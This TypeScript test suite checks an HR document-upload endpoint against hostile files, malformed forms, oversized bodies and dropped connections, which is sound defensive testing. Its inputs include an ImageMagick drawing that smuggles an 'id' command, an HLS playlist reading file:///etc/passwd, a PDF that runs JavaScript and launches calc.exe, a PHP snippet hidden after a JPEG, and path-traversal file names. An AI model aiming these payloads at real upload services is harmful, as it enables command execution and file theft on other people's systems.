import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { createOwnerDocument, downloadDocument, UPLOAD_LIMIT } from '#contract/entities/fleet/document.ts'
import { API_PREFIX } from '#contract/constants.ts'
import { buildPath } from '#contract/http.ts'
import { incomingFolder } from '#server/kernel/http/mount-upload.ts'
import { HOSTILE_DRAWINGS } from '#tests/inputs/uploads.ts'
import { testApp, type TestApp, type TestUser } from '#tests/support/app.ts'
import { type Freight, freight } from '#tests/support/freight.ts'
import {
  beginUpload,
  BOUNDARY,
  formOf,
  type FormPart,
  partsOf,
  SAMPLES,
  send,
} from '#tests/server/fleet/document/uploading.ts'
import { eventually } from '#tests/support/eventually.ts'

const dataDir = mkdtempSync(join(tmpdir(), 'freight-hostile-'))
afterAll(() => rmSync(dataDir, { recursive: true, force: true }))

let test: TestApp
let hr: TestUser
let rows: Freight
let port: number
let of_id: number

beforeAll(async () => {
  test = await testApp({ DATA_DIR: dataDir })
  const company = await test.company()
  hr = await company.user(['VIEW_HR_PORTAL'])
  rows = freight(test.db, company.id)
  await test.app.listen({ host: '127.0.0.1', port: 0 })
  port = (test.app.server.address() as AddressInfo).port
})
beforeEach(async () => {
  of_id = (await rows.owner()).id
})

const fields = () => ({ of_id, type: 'w9' })
const upload = (file: Buffer, name?: string, type?: string) =>
  send(test.app, hr, createOwnerDocument, formOf(partsOf(fields(), file, name, type)))
const sendParts = (parts: readonly FormPart[], headers?: Record<string, string>) =>
  send(test.app, hr, createOwnerDocument, formOf(parts), headers)
const countRows = async () => (await test.sql`select id from document where of_id = ${of_id}`).length
const arriving = () => (existsSync(incomingFolder(dataDir)) ? readdirSync(incomingFolder(dataDir)) : [])
const nothingLeft = async () =>
  expect([await countRows(), arriving(), await test.sql`select * from pending_file`]).toEqual([0, [], []])

const HTML = Buffer.from('<!doctype html><script>fetch("/app/api/user/me/")</script>')
const NOT_TAKEN: readonly (readonly [string, Buffer])[] = [
  ...HOSTILE_DRAWINGS,
  ['an HTML page named .pdf', HTML],
  ['an HTML page after line breaks', Buffer.concat([Buffer.from('\n\n'), HTML])],
  ['an HTML page before a PDF', Buffer.concat([HTML, SAMPLES.pdf])],
  ['a GIF', Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(9000, '!')])],
  ['a zip', Buffer.from('504b0304140000000800000000000000000000000000000000000000', 'hex')],
  [
    'a drawing that runs commands',
    Buffer.from('push graphic-context\nfill \'url(https://example.com/x.jpg"|id")\'\npop graphic-context'),
  ],
  [
    'a playlist',
    Buffer.from('#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://example.com/header.m3u8|file:///etc/passwd'),
  ],
  ['a macro document', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  ['a program', Buffer.from('MZ\x90\0')],
  ['one byte', Buffer.from('%')],
  ['the first byte of a JPEG', Buffer.from([0xff])],
  [
    'an AVIF',
    Buffer.concat([
      Buffer.from('0000001c', 'hex'),
      Buffer.from('ftypavif'),
      Buffer.alloc(4),
      Buffer.from('mif1miaf'),
    ]),
  ],
  [
    'an MP4 video',
    Buffer.concat([
      Buffer.from('00000018', 'hex'),
      Buffer.from('ftypisom'),
      Buffer.alloc(4),
      Buffer.from('isommp42'),
    ]),
  ],
  ['a JPEG without a marker', Buffer.from('ffd8ff00', 'hex')],
  ['only the signature of a PNG', Buffer.from('89504e470d0a1a0a', 'hex')],
]

describe('upload with an unsupported file type', () => {
  it.each(NOT_TAKEN)('%s is rejected under any file name', async (_, bytes) => {
    const answer = await upload(bytes, 'paper.pdf', 'application/pdf')
    expect([answer.status, answer.body.file?.[0]]).toEqual([
      415,
      expect.stringContaining('PDF, JPEG, PNG or HEIC'),
    ])
    await nothingLeft()
  })

  it('an empty file is rejected', async () => {
    expect(await upload(Buffer.alloc(0))).toEqual({
      status: 400,
      body: { file: ['This file is empty. Choose another one.'] },
    })
    await nothingLeft()
  })
})

const claimed = Buffer.from(
  'ffd8ffe000104a46494600010100000100010000ffc0001108fafafafa03012200021101031101ffd9',
  'hex',
)
describe('upload with harmful content', () => {
  it.each([
    ['a JPEG that claims 64,250 by 64,250 pixels', claimed, 'image/jpeg', claimed],
    [
      'a JPEG with a script after its end',
      Buffer.concat([SAMPLES.jpeg, Buffer.from('<?php phpinfo(); ?>')]),
      'image/jpeg',
      SAMPLES.jpeg,
    ],
    [
      'a PDF that runs JavaScript and starts programs',
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</O<</S/Launch/F(calc.exe)>>>>>>endobj\n%%EOF',
      ),
      'application/pdf',
    ],
    ['a HEIF file with a generic brand', SAMPLES.heif, 'image/heic'],
  ])(
    '%s is stored unopened and downloaded as an attachment, without data after the image',
    async (_, bytes, type, shown = bytes) => {
      const { status, body } = await upload(bytes, 'evil.html', 'text/html')
      expect([status, body.content_type]).toEqual([201, type])
      expect(body.file_name).toMatch(/^evil\.html\.(?:pdf|jpg|heic)$/)
      const { headers, rawPayload } = await test.app.inject({
        url: API_PREFIX + buildPath(downloadDocument, { id: body.id }),
        headers: { authorization: `Bearer ${hr.access}` },
      })
      expect([headers['content-type'], headers['x-content-type-options'], rawPayload.equals(shown)]).toEqual([
        type,
        'nosniff',
        true,
      ])
      expect(headers['content-disposition']).toMatch(/^attachment; /)
    },
  )
})

describe('file name of an upload', () => {
  const long = `${'n'.repeat(251)}.pdf`
  it.each([
    ['255 characters', long, `${'n'.repeat(120)}.pdf`],
    ['a NUL', 'pa\0per.pdf', 'paper.pdf'],
    ['a percent-encoded path', '..%2f..%2Fetc%2fpasswd.pdf', '_.._etc_passwd.pdf'],
    ['a path', '../../etc/cron.d/paper.pdf', 'paper.pdf'],
    ['a Windows path', 'C:\\\\temp\\\\paper.pdf', 'paper.pdf'],
    ['a right-to-left override', 'pa\u202Efdp.exe', 'pafdp.exe.pdf'],
    ['dots and spaces at the end', 'paper.pdf. . ', 'paper.pdf'],
    ['a Windows device name', 'CON.pdf', '_CON.pdf'],
    ['only dots', '...', 'document.pdf'],
    ['only a space', ' ', 'document.pdf'],
    ['another extension', 'paper.jpg.exe', 'paper.jpg.exe.pdf'],
    ['non-Latin letters', 'Führerschein 運転.PDF', 'Führerschein 運転.pdf'],
    ['a lone surrogate', 'a\uD800.pdf', 'a.pdf'],
  ])('a file name with %s is cleaned', async (_, given, shown) => {
    const { status, body } = await upload(SAMPLES.pdf, given)
    expect([status, body.file_name]).toEqual([201, shown])
  })

  it('two concurrent uploads with the same name are stored as two files', async () => {
    const both = await Promise.all([
      upload(SAMPLES.pdf, 'same.pdf'),
      upload(Buffer.concat([SAMPLES.pdf, Buffer.from('%2')]), 'same.pdf'),
    ])
    expect(both.map(({ status }) => status)).toEqual([201, 201])
    expect(
      await test.sql`select count(distinct file_key)::int as keys from document where of_id = ${of_id}`,
    ).toEqual([{ keys: 2 }])
  })
})

describe('malformed upload form', () => {
  const file = () => partsOf({}, SAMPLES.pdf)
  const given = () => partsOf(fields(), SAMPLES.pdf)

  it('a field after the file is rejected', async () => {
    expect(await sendParts([...given(), { name: 'note', value: 'late' }])).toEqual({
      status: 400,
      body: { note: ['This field came after the file. Send the file last.'] },
    })
    await nothingLeft()
  })

  it('two files in one call are rejected', async () => {
    expect((await sendParts([...given(), ...file()])).body).toEqual({ file: ['Send one file per call.'] })
    await nothingLeft()
  })

  it('a form without a file is rejected', async () => {
    expect((await sendParts(given().slice(0, -1))).body).toEqual({ file: ['Choose a file.'] })
  })

  it('a field sent twice is rejected', async () => {
    expect((await sendParts([{ name: 'of_id', value: '1' }, ...given()])).body).toEqual({
      of_id: ['This field was sent twice.'],
    })
  })

  it('a file in another part is rejected', async () => {
    const parts = given().map((part) => (part.name === 'file' ? { ...part, name: 'scan' } : part))
    expect((await sendParts(parts)).body).toEqual({ scan: ['This form takes its file as file.'] })
  })

  it('a field named like a prototype property is rejected', async () => {
    expect((await sendParts([{ name: '__proto__', value: 'x' }, ...given()])).status).toBe(400)
    expect((await sendParts([{ name: 'toString', value: 'x' }, ...given()])).status).toBe(400)
  })

  it('a form with 10,000 parts is rejected', async () => {
    const answer = await sendParts([
      ...Array.from({ length: 10_000 }, (_, n) => ({ name: `f${n}`, value: 'x' })),
      ...given(),
    ])
    expect([answer.status, await countRows()]).toEqual([413, 0])
  })

  it('a form without its boundary and a truncated form are rejected', async () => {
    const whole = formOf(given())
    const without = await send(test.app, hr, createOwnerDocument, whole, {
      'content-type': 'multipart/form-data',
    })
    expect([without.status, await countRows()]).toEqual([400, 0])
    for (const end of [10, 200, whole.length - 30, whole.length - BOUNDARY.length]) {
      expect((await send(test.app, hr, createOwnerDocument, whole.subarray(0, end))).status).toBe(400)
    }
    await nothingLeft()
  })

  it('a body that is not multipart/form-data is rejected', async () => {
    const answer = await send(test.app, hr, createOwnerDocument, Buffer.from('{}'), {
      'content-type': 'application/json',
    })
    expect(answer).toEqual({ status: 415, body: { detail: ['Send the body as multipart/form-data.'] } })
  })
})

describe('upload above the size limit', () => {
  const large = Buffer.concat([SAMPLES.pdf, Buffer.alloc(UPLOAD_LIMIT)])

  it('a file above the limit answers 413 by its length or its bytes, and nothing is stored', async () => {
    const refusal = await upload(Buffer.concat([large, Buffer.alloc(2 * 1024 * 1024)]))
    const counted = await upload(large)
    for (const { status, body } of [refusal, counted])
      expect([status, body.file[0]]).toEqual([413, expect.stringContaining('larger than 20 MB')])
    await nothingLeft()
  })

  it('a file above the limit is answered over a socket while its client still sends', async () => {
    const payload = formOf(partsOf(fields(), large))
    const { socket, heard } = beginUpload(port, hr, createOwnerDocument, { 'content-length': payload.length })
    socket.write(payload)
    await eventually(() => expect(heard()).toContain('HTTP/1.1 413'))
    socket.destroy()
    await nothingLeft()
  })

  it('a file exactly at the limit is accepted', async () => {
    const { status, body } = await upload(large.subarray(0, UPLOAD_LIMIT))
    expect([status, body.size]).toEqual([201, UPLOAD_LIMIT])
  })
})

describe('upload connection', () => {
  const payload = () => formOf(partsOf(fields(), Buffer.concat([SAMPLES.pdf, Buffer.alloc(300_000, ' ')])))

  it('a client that disconnects during the upload leaves nothing', async () => {
    const { socket } = beginUpload(port, hr, createOwnerDocument, { 'content-length': payload().length })
    socket.write(payload().subarray(0, 200_000))
    await eventually(() => expect(arriving()).toHaveLength(1))
    socket.destroy()
    await eventually(nothingLeft)
  })

  it('a Content-Length that is too short answers 400 and stores nothing', async () => {
    const { socket, heard } = beginUpload(port, hr, createOwnerDocument, { 'content-length': 100_000 })
    socket.write(payload())
    await eventually(() => expect(heard()).toContain('HTTP/1.1 400'))
    socket.destroy()
    await eventually(nothingLeft)
  })

  it('a client that ends before its Content-Length leaves nothing', async () => {
    const { socket } = beginUpload(port, hr, createOwnerDocument, {
      'content-length': payload().length + 5000,
    })
    socket.write(payload().subarray(0, -40))
    await eventually(() => expect(arriving()).toHaveLength(1))
    socket.end()
    await eventually(nothingLeft)
  })

  it('a chunked upload without a length is accepted', async () => {
    const { socket, heard } = beginUpload(port, hr, createOwnerDocument, { 'transfer-encoding': 'chunked' })
    const bytes = payload()
    for (let at = 0; at < bytes.length; at += 50_000) {
      const chunk = bytes.subarray(at, at + 50_000)
      socket.write(`${chunk.length.toString(16)}\r\n`)
      socket.write(chunk)
      socket.write('\r\n')
    }
    socket.write('0\r\n\r\n')
    await eventually(() => expect(heard()).toContain('HTTP/1.1 201'))
    socket.destroy()
  })
})
